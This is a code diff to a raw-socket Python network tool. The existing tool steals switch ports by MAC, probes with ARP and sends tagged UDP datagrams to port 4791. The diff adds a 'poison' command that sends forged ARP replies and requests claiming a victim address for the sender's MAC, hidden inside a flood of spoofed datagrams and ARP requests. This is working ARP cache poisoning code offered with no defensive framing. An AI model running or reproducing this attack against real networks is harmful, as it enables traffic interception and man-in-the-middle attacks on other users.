@@ -5,6 +5,7 @@
 steal MAC          sends two frames from MAC to an unused address, so that a switch learns MAC at this port
 arp ADDRESS TARGET [TAG]   sends an ARP request for TARGET from ADDRESS, optionally tagged; prints "answered" or "silent"
 mad ADDRESS TARGET MAC TAG   sends a tagged datagram of zeros to UDP port 4791
+poison ADDRESS TARGET MAC ROUNDS   claims ADDRESS to TARGET, which has MAC, within a flood of datagrams and requests
 """
 import socket
 import struct
@@ -60,18 +61,38 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
-def mad(sock, interface, address, target, mac, tag):
+def datagram(address, target):
     udp = struct.pack("!HHHH", 49152, 4791, 8 + 32, 0) + bytes(32)
     ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + packed(address) + packed(target)
     ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
-    sock.send(ethernet(mac_of(mac), own_mac(interface), 0x800, ip + udp, int(tag, 0)))
+    return ip + udp
+
+
+def mad(sock, interface, address, target, mac, tag):
+    sock.send(ethernet(mac_of(mac), own_mac(interface), 0x800, datagram(address, target), int(tag, 0)))
+
+
+def claim(operation, own, address, target, mac):
+    body = struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + own + packed(address) + mac + packed(target)
+    return ethernet(mac, own, 0x806, body)
+
+
+def poison(sock, interface, address, target, mac, rounds):
+    own, mac = own_mac(interface), mac_of(mac)
+    flood = [ethernet(mac, own, 0x800, datagram(f"192.0.2.{host}", target)) for host in range(100, 160)]
+    flood += [claim(1, own, f"192.0.2.{host}", target, mac) for host in range(100, 160)]
+    for _ in range(int(rounds)):
+        for frame in flood:
+            sock.send(frame)
+        sock.send(claim(2, own, address, target, mac))
+        sock.send(claim(1, own, address, target, mac))
 
 
 def main():
     interface, command = sys.argv[1:3]
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
     sock.bind((interface, 0))
-    {"steal": steal, "arp": arp, "mad": mad}[command](sock, interface, *sys.argv[3:])
+    {"steal": steal, "arp": arp, "mad": mad, "poison": poison}[command](sock, interface, *sys.argv[3:])
 
 
 main()
